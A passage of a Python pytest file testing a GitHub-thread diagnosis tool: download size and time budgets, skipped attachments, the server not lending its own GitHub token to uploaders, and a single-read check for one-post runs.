    thread = github.fetch(github.parse_thread_url(thread_url(gh)))
    (tmp_path / "all").mkdir()
    whole = sum(p.input.path.stat().st_size for p in github.pieces(thread, github.selected(thread),
                                                                   tmp_path / "all").pieces)
    monkeypatch.setattr(github, "THREAD_MAX_BYTES", whole // 2)
    out = github.pieces(thread, github.selected(thread), tmp_path)
    cut = [name for name, why in out.skipped if why == f"past the thread's {whole // 2 / 2**20:g} MiB budget: not read"]
    assert out.pieces and cut, out.skipped
    assert sum(p.input.path.stat().st_size for p in out.pieces) <= whole // 2
    monkeypatch.setattr(github, "THREAD_MAX_BYTES", 1 << 30)
    monkeypatch.setattr(github, "THREAD_MAX_S", 0.0)
    (tmp_path / "late").mkdir()
    out = github.pieces(thread, github.selected(thread), tmp_path / "late")
    assert [why for _, why in out.skipped] and all(why == "past the thread's 0 s download budget: not read"
                                                   for _, why in out.skipped)
    assert not [p for p in out.pieces if "ds_config.json" in p.name or ".zip" in p.name]  # attachments not fetched


def urlparse_path(url: str) -> str:
    from urllib.parse import urlparse

    return urlparse(url).path


@pytest.mark.slow
def test_the_server_reads_a_thread_with_the_uploaders_token_not_its_own(gh: StandIn, tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 32, must 6: the server's GITHUB_TOKEN is not lent to whoever can upload; the uploader's own token is
    used for its upload alone; `--github-token-for-uploads` lends the server's, and the page says which."""
    import httpx

    from test_serve import server

    for k, v in gh.env().items():
        monkeypatch.setenv(k, v)
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_server" + "s" * 30)

    def upload(base: str, **fields: str) -> set[str | None]:
        gh.state.requests.clear()
        r = httpx.post(f"{base}/api/diagnose", data={"wandb": thread_url(gh), **fields},
                       files=[("files", ("", b""))], timeout=120)
        assert r.status_code == 200, r.text
        return {auth for _, path, auth in gh.state.requests if path.startswith("/repos")}

    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    with server(tmp_path / "a") as base:
        assert "this server does not lend its own" in " ".join(httpx.get(base, timeout=10).text.split())
        assert upload(base) == {None}
        assert upload(base, github_token="ghp_alice" + "a" * 31) == {"Bearer ghp_alice" + "a" * 31}
        assert upload(base) == {None}  # the last uploader's token is not kept
    with server(tmp_path / "b", "--github-token-for-uploads") as base:
        assert "--github-token-for-uploads" in httpx.get(base, timeout=10).text
        assert upload(base) == {"Bearer ghp_server" + "s" * 30}


def test_a_run_of_one_post_is_read_once(gh: StandIn, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 35: telling the posts apart reads each post whole; a run of one post is not read again for the report
    (a thread with a 200 MB attachment read it twice)."""
    import diagnose
    from diagnose.parsers import run_model, threads

    for k, v in gh.env().items():
        monkeypatch.setenv(k, v)
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    monkeypatch.delenv("GH_TOKEN", raising=False)
    reads: list[str] = []
    real = run_model.build

    def counting(inputs, *a, **kw):  # type: ignore[no-untyped-def]
        reads.extend(i.name for i in inputs)
        return real(inputs, *a, **kw)
    monkeypatch.setattr(run_model, "build", counting)
    monkeypatch.setattr(threads, "build", counting)
    a = diagnose.analyse(thread_url(gh))
    assert [r.name for r in a.runs][0] == f"#{NUMBER} body (alice)"
    body_log = f"#{NUMBER} body (alice) block 2"
    assert reads.count(body_log) == 1, reads
